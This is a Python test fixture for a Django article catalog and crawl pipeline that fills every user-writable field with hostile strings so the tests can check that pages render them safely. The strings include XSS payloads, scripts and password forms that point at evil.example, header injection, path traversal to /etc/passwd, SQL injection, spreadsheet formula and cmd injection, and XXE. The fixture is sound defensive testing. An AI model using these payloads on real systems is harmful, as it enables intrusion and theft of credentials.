"""What strangers write, and rows that carry it in every field that a stranger can write."""

from typing import Any

from django.contrib.auth.models import User
from django.utils import timezone

from catalog.models import Article, ArticleVersion, SavedView
from pipeline.models import Host, Run
from pipeline.monitor.models import LogEvent, WorkerHeartbeat
from pipeline.monitor.queues import sampler
from pipeline.monitor.queues.sampler import Reading
from pipeline.runs import jobs
from tests.pages import a_run, a_snapshot, an_article, journeys

CALL = "alert(document.domain)"
TEXTS = {
    "script": f"<script>{CALL}</script>",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "out of double quotes": f'"><script>{CALL}</script>',
    "out of single quotes": f"'><img src=x onerror={CALL}>",
    "out of an attribute without quotes": f"x onmouseover={CALL} autofocus onfocus={CALL}",
    "handler": f"<img src=x onerror={CALL}>",
    "svg": f"<svg onload={CALL}><script>{CALL}</script></svg>",
    "mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    "style": "<style>*{display:none!important}</style><p style='position:fixed;inset:0'>x",
    "frame": f"<iframe srcdoc='<script>{CALL}</script>'></iframe><object data=//evil.example></object>",
    "base and refresh": "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "form": "<form action=//evil.example><input name=password autofocus><button>Sign in</button></form>",
    "htmx": "<div hx-get=/runs/1/cancel hx-trigger=load data-confirm=x>x</div>",
    "out of the title": f"</title><script>{CALL}</script>",
    "out of a text area": f"</textarea><script>{CALL}</script>",
    "out of the page": "</bdi></td></table></dl></div></main></body></html><h1>Signed out</h1>",
    "comment": f"<!-- --!><script>{CALL}</script> -->",
    "cdata": f"<![CDATA[]]><script>{CALL}</script>]]>",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3C;img src=x onerror=alert(1)&#x3E; &amp;lt;b&amp;gt;",
    "template": "{{ request.META }}{% csrf_token %}{% load static %}${7*7}#{7*7}<%= 7*7 %>",
    "javascript address": f"javascript:{CALL}",
    "disguised address": f" jAvA\tscript\n:{CALL}//https://blog.example/",
    "data address": f"data:text/html,<script>{CALL}</script>",
    "turned round": "\u202e\u2066txet neddih\u202e gpj.exe",
    "unseen": "a\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e" * 40,
    "piled up": "Z" + "\u0351\u036b\u0343\u036a" * 200,
    "controls": "a\x01\x08\x1b[31m\x7f\x85\u2028\u2029\ufffe\uffff\U0010ffff",
    "headers": "x\r\nSet-Cookie: sessionid=evil\r\n\r\n<script>alert(1)</script>",
    "path": "../../../../etc/passwd%00%2e%2e%2f?a=b&c=d#e;f",
    "query": "'; DROP TABLE catalog_article; -- \" OR 1=1 \\",
    "formula": "=HYPERLINK(\"https://evil.example?\"&A1,\"click\")",
    "wide formula": "\uff1dcmd|'/c calc'!A1",
    "hidden formula": "\ufeff\u00a0 @SUM(1+1)*cmd|'/c calc'!A1",
    "front matter": "---\ntitle: owned\n---\n# owned\n[x](javascript:alert(1))",
    "json": '\\u003c/script\\u003e","admin":true,"x":"',
    "xml": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "a word of a megabyte": "w" * 1_000_000,
    "a megabyte of signs": "<&>\"'" * 200_000,
    "only space": " \u00a0\u3000\t",
    "emoji": "\U0001f469\u200d\U0001f4bb" * 300,
}  # fmt: skip


def hostile(text: str) -> dict[str, Any]:
    """An article, journeys, a page, runs, jobs and log lines whose every word is this; name -> path
    of its pages."""
    short, word, line = text[:60], text[:200], text[:20_000]
    values = {
        "title": text, "authors": [word], "html": f"<p>{text}</p>", "text": text, "excerpt": text, "image": line,
        "tags": [word], "labels": [short], "quality_reasons": [line], "methods": {word: line}, "imports": [word],
        "code_languages": [word], "language": "en",
    }  # fmt: skip
    article = an_article(1, **values)
    article.source.name = text[:300]
    article.source.save()
    Article.objects.filter(pk=article.pk).update(url=line)
    ArticleVersion.objects.create(
        article=article, title=f"before {line}", text=line, html=text
    )
    snapshot = a_snapshot(
        article,
        b"<p>" + text.encode(),
        headers={word: line, "content-type": word},
        final_url=line,
    )
    options = {
        "addresses": [line],
        "include": [word],
        "exclude": [word],
        "skip": 0,
        "limit": None,
        "language": [short],
    }
    run = a_run(name=word, reason=line, notes=[line], launched_by=text[:150])
    asked = [{"url": line, "kind": word, "outcome": word, "detail": line, "entries": 1}]
    report: dict[str, Any] = {
        "address": line,
        "articles": 0,
        "urls": 1,
        "requests": 1,
        "state": word,
    }
    for name in ("decided", "problem", "advice", "moved_to", "text"):
        report[name] = line
    report["limits"] = [line]
    Run.objects.filter(pk=run.pk).update(
        parameters=options, source_requests=asked, address_reports=[report]
    )
    given = {
        "source_metadata": {
            "title": line,
            "author": line,
            "published": line,
            word: line,
        },
        "detail": line,
        "reasons": [line],
        "found_in": [line],
        "attempts": [["fetch", line, line]],
        "snapshot": snapshot,
        "article": article,
        "reason": short,
    }
    [journey] = journeys(run, 1, "failed", "fetch", **given)
    run.events.create(
        before="running", after="running", by=text[:150], why=line, at=timezone.now()
    )
    look = a_run(name=word)
    journeys(look, 1, "skipped", "discover", **{**given, "reason": "dry-run"})
    Run.objects.filter(pk=look.pk).update(
        parameters={**options, "dry_run": True}, state="finished"
    )
    event = LogEvent.objects.create(
        at=timezone.now(), level=40, event=word, process=text[:40], run=run.pk, journey=journey.pk, url=line,
        task=text[:64], signature=word, data={word: line, "exception": line, "status": line, "list": [line, {word: 1}]},
    )  # fmt: skip
    Host.objects.update_or_create(
        name="blog.example",
        defaults={
            "last_failure": short,
            "robots_text": line,
            "parked_reason": short,
            "failures": 3,
        },
    )
    job = jobs.save(word.strip() or "x", options)
    SavedView.objects.create(
        owner=User.objects.all()[0], name=short, query=f"q={word}", shared=True
    )
    sampler.write([Reading(queue, 1, 1, 1) for queue in sampler.QUEUES], timezone.now())
    WorkerHeartbeat.objects.create(
        name=word, pid=1, stage="fetch", pool="thread", slots=1, memory=1, busy=1, started_at=timezone.now(),
        in_progress=[{"task": line, "id": line, "journey": journey.pk, "since": line}], beat_at=timezone.now(),
    )  # fmt: skip
    return {
        "launch": f"/?again={run.pk}", "runs": "/runs/", "run": f"/runs/{run.pk}/", "change": f"/runs/{run.pk}/change",
        "timeline": f"/runs/{run.pk}/timeline", "run-hosts": f"/runs/{run.pk}/hosts",
        "run-log": f"/runs/{run.pk}/log", "run-settings": f"/runs/{run.pk}/settings", "journeys": f"/runs/{run.pk}/journeys/",
        "journey": journey.get_absolute_url(), "preview": f"/runs/{look.pk}/preview",
        "compare": f"/runs/{run.pk}/compare",
        "jobs": "/jobs/", "job": job.get_absolute_url(), "job-form": f"/jobs/{job.pk}/edit",
        "articles": "/articles/", "table": "/articles/?view=table", "article": article.get_absolute_url(),
        "versions": f"{article.get_absolute_url()}versions", "its-log": f"{article.get_absolute_url()}log",
        "its-runs": f"{article.get_absolute_url()}journeys/", "facets": "/articles/facets", "views": "/articles/views/",
        "queues": "/queues/", "logs": "/logs/", "log-line": event.get_absolute_url(),
        "trace": f"/logs/trace?journey={journey.pk}", "errors": "/logs/errors", "audit": "/audit/",
    }  # fmt: skip
